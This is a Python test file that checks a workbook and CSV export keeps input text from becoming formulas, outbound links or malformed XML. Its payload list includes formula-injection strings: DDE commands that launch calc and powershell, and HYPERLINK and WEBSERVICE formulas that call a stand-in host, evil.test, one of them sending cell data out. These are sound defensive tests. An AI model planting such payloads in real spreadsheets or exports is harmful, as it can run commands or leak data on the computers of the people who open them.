"""No text of a run ever runs in a workbook or CSV file, breaks it, or is lost in it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sample_facts import live_parts, opened, parts_of, sample_facts, table_of

from allocator.outputs.facts import RunFacts
from allocator.outputs.tidy import run_tables, write_tidy
from allocator.outputs.workbook import workbook_bytes
from allocator.outputs.workbook.cells import CUT, MOST_UNITS, plain_text, runs_when_edited, word

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    '=HYPERLINK("http://evil.test","Fife")',
    '=WEBSERVICE("http://evil.test/"&A1)',
    '=DDE("cmd";"/C calc";"a")',
    "=cmd|'/C powershell'!A1",
    "\uff1d1+1",
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "http://evil.test/",
    "mailto:a@evil.test",
    "internal:'Cover'!A1",
    "external:c:\\evil.xlsx",
    "{=1+1}",
    "'=1+1",
    "</t><f>1+1</f>",
    "[c]",
    "_x003D_1+1",
]
#: A sign of two units of UTF-16.
MOUNTAIN = "\N{SNOW CAPPED MOUNTAIN}"
#: Every place of the sample where a name or a source comes from a file.
PLACES = ("S08000101", "S08000026", "g1", "i-holm", "X101H", "X104H", "east")


def named_tables(facts: RunFacts) -> dict[str, pd.DataFrame]:
    """Return the tables that have names and sources in them."""
    names = ("boards", "board_indicators", "bases", "base_posts", "zones", "zone_coverage")
    tables = run_tables(facts)
    return {name: tables[name] for name in (*names, "mbus", "mbu_posts", "flows", "settings")}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_of_a_file_runs_or_leads_anywhere(payload, tmp_path):
    """Names of boards, places, bases and units, sources and governance: 0 formulas, 0 links out."""
    facts = sample_facts(
        tmp_path,
        names=dict.fromkeys(PLACES, payload),
        settings={"governance.assured_by": payload, "travel.season": payload},
        sources={"demand.need_rate": payload},
    )
    content = workbook_bytes(facts, tables=named_tables(facts))
    book, shown = opened(content), plain_text(payload)
    assert live_parts(content, book) == []
    assert shown in set(table_of(book["Boards"])["Board"])
    assert shown in set(table_of(book["Bases"])["Base"])
    assert shown in set(table_of(book["Places"])["Place"])
    assert shown in set(table_of(book["Mother and baby units"])["Unit"])
    assert shown in set(table_of(book["Settings"])["Source"])
    assert shown in set(table_of(book["Settings"])["Value"])
    quoted = [c.quotePrefix for row in book["Bases"].iter_rows() for c in row if c.value == shown]
    assert quoted
    assert all(mark is runs_when_edited(payload) for mark in map(bool, quoted))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_file_starts_as_a_formula(payload, tmp_path):
    """Every CSV file of the export is read cell by cell: none starts with a sign that runs."""
    facts = sample_facts(
        tmp_path, names=dict.fromkeys(PLACES, payload), sources={"demand.need_rate": payload}
    )
    write_tidy(facts, tmp_path / "tables", ("csv",), tables=named_tables(facts))
    cells = [
        cell
        for path in sorted((tmp_path / "tables").glob("*.csv"))
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8")))
        for cell in row
    ]
    number = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")
    lively = [c for c in cells if c.lstrip()[:1] in tuple("=+-@\uff1d") and not number.fullmatch(c)]
    assert [cell for cell in lively if cell] == []
    assert any(plain_text(payload).strip() in cell for cell in cells)


def test_a_workbook_with_every_payload_at_once_is_sound_xml(tmp_path):
    """All of them together, in one workbook: each part is XML that a strict reader takes."""
    names = dict(zip([*PLACES, "S08000102", "g2", "g3", "g4"], PAYLOADS, strict=False))
    content = workbook_bytes(sample_facts(tmp_path, names=names))
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        assert package.testzip() is None
        for name in package.namelist():
            ET.fromstring(package.read(name))
    assert live_parts(content, opened(content)) == []


def test_control_characters_become_spaces_and_escapes_stay_text(tmp_path):
    """What XML cannot hold is a space; a text that looks like an escape is shown as it is."""
    names = {"X101H": "a\x00b\x08c\x1fd\uffff", "X102H": "_x0041_", "g1": "two\nlines"}
    content = workbook_bytes(sample_facts(tmp_path, names=names))
    book = opened(content)
    assert {"a b c d ", "_x0041_"} <= set(table_of(book["Bases"])["Base"])
    assert "two lines" in set(table_of(book["Places"])["Place"])
    assert "_x0041_" not in " ".join(parts_of(content).values()).replace("_x005F_x0041_", "")


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(tmp_path):
    """A cell holds 32,767 units of UTF-16: more is cut between letters, and the cell says so."""
    long = MOUNTAIN * MOST_UNITS
    content = workbook_bytes(sample_facts(tmp_path, sources={"demand.need_rate": long}))
    (shown,) = [text for text in table_of(opened(content)["Settings"])["Source"] if len(text) > 99]
    assert shown.endswith(CUT)
    assert MOST_UNITS - 2 < len(shown.encode("utf-16-le")) // 2 <= MOST_UNITS
    assert set(shown.removesuffix(CUT)) == {MOUNTAIN}


@given(st.text(st.characters(codec=None, exclude_categories=()), max_size=300))
def test_any_text_can_stand_in_a_cell(text):
    """Whatever a file says becomes text that XML can hold, as long, and the same when it can."""
    shown = plain_text(text)
    ET.fromstring(f"<t>{shown.translate({38: '+', 60: '+', 62: '+'})}</t>")
    assert len(shown) == len(text)
    assert plain_text(shown) == shown
    if text.isprintable():
        assert shown == text


@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=40))
def test_a_formula_is_known_whatever_stands_before_it(text):
    """Blanks and control characters in front of a sign hide no formula."""
    assert runs_when_edited(plain_text(f"\t {text}=1")) == (
        not plain_text(text).strip() or runs_when_edited(plain_text(text))
    )


def test_words_are_those_of_the_services_and_measures():
    """Words of tables are shown in plain words, and nothing of them is dropped."""
    assert word("mbu") == "Mother and baby unit"
    assert word("leximin_coverage 2") == "Leximin coverage 2"
    assert word("stand-alone") == "Stand-alone"
    assert word("=1+1") == "=1+1"
